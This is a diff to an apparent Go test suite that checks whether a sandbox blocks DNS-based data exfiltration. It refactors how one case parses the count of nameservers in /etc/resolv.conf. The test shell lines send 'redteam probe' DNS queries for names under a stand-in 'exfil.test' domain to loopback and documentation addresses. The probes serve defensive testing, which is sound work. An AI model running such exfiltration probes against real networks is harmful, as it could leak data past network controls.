@@ -151,8 +151,8 @@ func fakeNetCases() []*Case {
 			func(ctx context.Context, e *Env) Outcome {
 				a := e.Sh(ctx, `echo "resolv.conf: $(grep -c nameserver /etc/resolv.conf 2>/dev/null)"; getent hosts "n03-$T.exfil.test"; for s in 127.0.0.1:53 127.0.0.53:53 203.0.113.10:53; do "$P" redteam probe dnsq "$s" "n03b-$T.exfil.test"; done`)
 				var bad []string
-				if n := strings.Fields(strings.TrimSpace(strings.SplitN(strings.TrimPrefix(a.Text, "resolv.conf: "), "\n", 2)[0])); len(n) > 0 && n[0] != "0" && n[0] != "" {
-					bad = append(bad, "/etc/resolv.conf names "+n[0]+" servers")
+				if n := strings.TrimSpace(strings.TrimPrefix(firstLine(a.Text, "resolv.conf: "), "resolv.conf: ")); n != "0" && n != "" {
+					bad = append(bad, "/etc/resolv.conf names "+n+" servers")
 				}
 				bad = append(bad, oks(a, contains("dns-answer"))...)
 				ctl := e.ctlAt(e.netL("udp 203.0.113.10:53"), func() Obs { return e.Host(ctx, `"$P" redteam probe dnsq 203.0.113.10:53 "n03-$CT.exfil.test"`) })
